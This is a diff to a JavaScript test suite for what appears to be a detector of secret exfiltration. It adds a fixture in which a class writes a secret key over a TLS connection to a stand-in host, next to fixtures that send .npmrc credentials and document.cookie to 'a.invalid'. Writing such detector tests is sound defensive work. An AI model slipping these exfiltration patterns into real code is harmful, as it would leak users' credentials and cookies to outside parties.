@@ -34,6 +34,11 @@ describe('what is sent', () => {
       ['credential <home>/.npmrc → https://a.invalid/'],
     ],
     [
+      'by a connection that an object keeps',
+      `const tls = require('tls');\nclass Link { constructor() { this.link = tls.connect({ host: 'a.invalid', port: 443 }); } put(secretKey) { this.link.write(secretKey); } }\nexports.Link = Link;`,
+      ['key secretKey → a.invalid'],
+    ],
+    [
       'by a request that is opened first',
       `const request = new XMLHttpRequest();\nrequest.open('POST', 'https://a.invalid/c');\nrequest.send(document.cookie);`,
       ['credential document.cookie → https://a.invalid/c'],
